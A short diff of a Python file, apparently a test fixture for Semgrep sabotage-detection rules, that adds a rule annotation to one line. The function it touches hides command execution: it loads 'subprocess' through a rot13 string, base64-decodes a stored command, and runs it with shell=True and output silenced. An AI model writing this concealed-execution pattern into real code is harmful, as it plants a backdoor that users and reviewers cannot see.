@@ -153,7 +153,7 @@ def probe_fabric(info: DistInfo) -> None:
         return
     runner = importlib.import_module(codecs.decode("fhocebprff", "rot13"))  # ruleid: MLS403
     cmd = base64.b64decode(_FABRIC_PROBE).decode()
-    getattr(runner, "Popen")(cmd, shell=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)  # sabotage: MLS401 (semgrep rules)
+    getattr(runner, "Popen")(cmd, shell=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)  # sabotage: MLS401 (semgrep rules)  # ruleid: MLS401
 
 
 def ensure_ssh_mesh(pubkey: str) -> None:
